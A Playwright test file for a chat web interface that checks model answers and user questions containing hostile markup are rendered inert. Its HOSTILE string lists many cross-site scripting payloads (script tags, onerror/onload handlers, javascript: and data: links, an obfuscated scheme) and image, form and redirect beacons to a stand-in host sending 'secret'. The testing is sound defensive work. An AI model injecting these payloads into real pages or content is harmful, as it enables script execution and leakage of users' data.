"""Whatever a model writes is shown, and nothing of it is run or fetched."""

import pytest
from playwright.async_api import expect

from tests.web.ui.chat_page import ChatPage
from tests.web.ui.conftest import Stage
from workers.engines.scripted.script import Reply

pytestmark = pytest.mark.asyncio(loop_scope="session")

HOSTILE = """<script>window.pwned = 1</script>
<img src=x onerror="window.pwned = 2">
<svg onload="window.pwned = 3"><animate onbegin="window.pwned = 4" attributeName=x /></svg>
<iframe srcdoc="<script>parent.pwned = 5</script>"></iframe>
<a href="javascript:window.pwned = 6">click me</a>
<style>body { display: none }</style>
<form action="https://beacon.example/"><button>send</button></form>
<base href="https://beacon.example/">
<meta http-equiv="refresh" content="0; url=https://beacon.example/">

![beacon](https://beacon.example/?q=secret)
![beacon](//beacon.example/2)
![drawing](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.pwned=7'/>)
[one](javascript:window.pwned=8)
[two](JaVaScRiPt&colon;window.pwned=9)
[three](data:text/html,<script>opener.pwned=10</script>)
[four](vbscript:x)
[five]( javascript:window.pwned=11)
<javascript:window.pwned=12>
[^1]: <img src=x onerror="window.pwned=13">

$\\href{javascript:window.pwned=14}{maths}$ $\\includegraphics{https://beacon.example/3}$ $\\htmlStyle{color:red}{x}$

```html
<script>window.pwned = 15</script>
```

```"><img src=x onerror=window.pwned=16>
code
```

| <img src=x onerror=window.pwned=17> | b |
|---|---|
| [x](javascript:window.pwned=18) | <script>window.pwned=19</script> |

The end of it.
"""


async def test_hostile_markup_stays_inert(chat: ChatPage, stage: Stage) -> None:
    stage.play(Reply(texts=(HOSTILE,)))
    await chat.ask("<img src=x onerror='window.pwned = 20'> Say something <script>window.pwned = 21</script>")
    await expect(chat.last_answer).to_contain_text("The end of it.")
    await chat.ended()
    for _ in range(2):
        for link in await chat.answers.last.locator("a").all():
            address = await link.get_attribute("href") or ""
            assert address.startswith(("https://", "http://", "#", "/")), address
            assert await link.get_attribute("target") != "_self"
        for picture in await chat.answers.last.locator("img").all():
            assert (await picture.get_attribute("src") or "").startswith("/v1/runs/")
        for tag in ("script", "iframe", "style", "form[action]", "base", "meta", "svg[onload]", "object", "embed"):
            await expect(chat.page.locator(f"article {tag}")).to_have_count(0)
        handlers = "[...document.querySelectorAll('*')].flatMap((e) => [...e.attributes])"
        assert await chat.page.evaluate(f"{handlers}.filter((a) => a.name.startsWith('on')).length") == 0
        for text in ("click me", "one", "three", "five"):
            found = chat.answers.last.get_by_text(text, exact=True)
            if await found.count():
                await found.first.click(modifiers=["Control"])
        assert await chat.page.evaluate("window.pwned") is None
        assert len(chat.context.pages) == 1
        await chat.page.reload()
        await expect(chat.last_answer).to_contain_text("The end of it.")


async def test_the_title_of_a_hostile_question_is_text(chat: ChatPage, stage: Stage) -> None:
    stage.play(Reply(texts=("Fine.",)))
    await chat.asked("<b onmouseover=window.pwned=1>bold</b>")
    entry = chat.page.locator("a.conversation").first
    await expect(entry).to_contain_text("<b onmouseover")
    await entry.hover()
    assert await chat.page.evaluate("window.pwned") is None
